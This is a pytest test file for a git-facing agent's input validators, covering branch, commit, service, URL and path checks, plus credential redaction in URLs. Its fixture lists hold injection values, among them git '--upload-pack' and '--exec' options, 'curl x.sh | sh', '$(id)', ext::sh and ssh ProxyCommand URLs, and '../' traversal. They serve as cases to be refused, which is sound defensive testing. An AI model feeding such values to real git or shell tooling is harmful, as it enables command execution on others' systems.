"""Hostile names are refused before anything happens; good ones pass unchanged."""

from __future__ import annotations

import string
from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lightship_agent import names
from lightship_agent.errors import ProtocolError

HOSTILE = [
    "--upload-pack=touch /tmp/p;git-upload-pack",
    "--exec=touch /tmp/p",
    "main; curl x.sh | sh",
    "$(id)",
    "`id`",
    "+refs/*:refs/*",
    "HEAD@{1}",
    "a.lock",
    "a/b.lock/c",
    "../../etc",
    "-",
    "@",
    "",
    "a b",
    "a\n",
    "\na",
    "a\0b",
    "a//b",
    "a/",
    "a/.b",
    "a.",
    "a..b",
    "a~1",
    "a^",
    "a:b",
    "a\\b",
    "\u0661\u0662",
    "a\u202eb",
    "\x1b[2J",
    "a" * 1000,
]


@pytest.mark.parametrize("value", [*HOSTILE, "/etc", 7, None, b"main", ["main"], {"a": 1}])
def test_a_hostile_branch_is_refused(value: object) -> None:
    with pytest.raises(ProtocolError) as caught:
        names.valid_branch(value, "branch")
    assert caught.value.code == "bad-value"
    assert caught.value.message.startswith("branch: ")
    assert caught.value.message.isascii()
    assert caught.value.message.isprintable()
    assert len(caught.value.message) < 400


@pytest.mark.parametrize(
    "value", ["main", "feature/x-1", "v1.2.3", "user@fix", "#123", "a+b", "release/2026.11", "a@b"]
)
def test_a_usual_branch_is_taken(value: str) -> None:
    assert names.valid_branch(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, "/etc", "a" * 39, "A" * 40, "a" * 40 + "\n", "\u0661" * 40, 0, None])
def test_what_is_no_commit_is_refused(value: object) -> None:
    with pytest.raises(ProtocolError):
        names.valid_commit(value)


def test_a_commit_is_taken() -> None:
    assert names.valid_commit("0123456789" * 4) == "0123456789" * 4


@pytest.mark.parametrize("value", [*HOSTILE, "web\n", "Web", "-web", "a" * 64, "a_b", "a.b", "/etc", True])
def test_a_hostile_service_is_refused(value: object) -> None:
    with pytest.raises(ProtocolError):
        names.valid_service(value)


@pytest.mark.parametrize(
    "value",
    [
        "ext::sh -c touch% /tmp/pwned",
        "ext::sh",
        "fd::3",
        "ssh://-oProxyCommand=touch%20x/y",
        "ssh://-u@host/r",
        "git@-oProxyCommand=x:y",
        "-u@host:r",
        "-u./payload",
        "host:-x",
        "https://-host/r",
        "https://host/r\n",
        "https://host/ r",
        "https://host/r\x00",
        "https://h\u00f6st/r",
        "https://host:port/r",
        "https:///r",
        "ftp://host/r",
        "file://host/r",
        "relative/path",
        "../up",
        "ssh://u:secret@host/r",
        "http://u:secret@host/r",
        "http://secret@host/r",
        "git://example.org/r",
        "transport::https://host/r",
        "https://host/$(id)",
        "host:$(id)",
        "",
        None,
    ],
)
def test_a_hostile_url_is_refused(value: object) -> None:
    with pytest.raises(ProtocolError) as caught:
        names.valid_url(value)
    assert "secret" not in caught.value.message


@pytest.mark.parametrize(
    "value",
    [
        "https://example.org/a/b.git",
        "https://u:tok3n@host/r",
        "http://[::1]:8080/r",
        "ssh://git@example.org:2222/~u/r.git",
        "git@example.org:group/repo.git",
        "example.org:repo",
        "git@example.org:/srv/git/repo.git",
        "file:///srv/git/r.git",
        "/srv/git/r.git",
    ],
)
def test_a_usual_url_is_taken(value: str) -> None:
    assert names.valid_url(value) == value


@pytest.mark.parametrize(
    ("url", "shown"),
    [
        ("https://u:tok3n@host/r", "https://***@host/r"),
        ("https://tok3n@host/r", "https://***@host/r"),
        ("https://host/a@b", "https://host/a@b"),
        ("ssh://git@host/r", "ssh://git@host/r"),
        ("git@host:r", "git@host:r"),
        ("https://u:p@ss w@host/r", "https://***@host/r"),
        ("weird:tok3n@host", "***@host"),
        ("/srv/git", "/srv/git"),
    ],
)
def test_secrets_of_urls_are_hidden(url: str, shown: str) -> None:
    assert names.redact_url(url) == shown


def test_secrets_in_running_text_are_hidden() -> None:
    text = "fatal: unable to access 'https://u:tok3n@host/r/': no; see ssh://git@host/r"
    assert names.redact_text(text) == "fatal: unable to access 'https://***@host/r/': no; see ssh://git@host/r"


@pytest.mark.parametrize("value", ["media", "a/b", "a b", "\u00fc", "-x", ".hidden"])
def test_a_path_inside_is_taken(value: str) -> None:
    assert names.valid_path(value) == value


@pytest.mark.parametrize(
    "value", ["", ".", "..", "/a", "a/", "a//b", "a/../b", "./a", "a\0", "a\n", "a\\b", ".git/x", "a/.GIT", "\udc80", 3]
)
def test_a_path_that_leaves_is_refused(value: object) -> None:
    with pytest.raises(ProtocolError):
        names.valid_path(value)


VALIDATORS: list[Callable[[object], str]] = [
    names.valid_branch,
    names.valid_commit,
    names.valid_service,
    names.valid_url,
    names.valid_path,
]


@given(st.text())
def test_what_passes_is_unchanged_and_inert(value: str) -> None:
    for validator in VALIDATORS:
        try:
            taken = validator(value)
        except ProtocolError as error:
            assert error.message.isascii()
            assert error.message.isprintable()
            continue
        assert taken == value
        assert value.isprintable()
        if validator is not names.valid_path:
            assert not value.startswith("-")
            assert set(value) <= set(string.ascii_letters + string.digits + "._/@#+=,%:~-[]!$&'()*;")
        assert ".." not in value.split("/") or validator is names.valid_url


@given(st.binary() | st.text() | st.integers() | st.none())
def test_printable_is_short_and_inert(value: object) -> None:
    shown = names.printable(value)
    assert shown.isascii()
    assert shown.isprintable()
    assert len(shown) <= 80


def test_printable_does_not_escape_all_of_a_huge_value() -> None:
    assert len(names.printable("\x1b" * 20_000_000)) <= 80
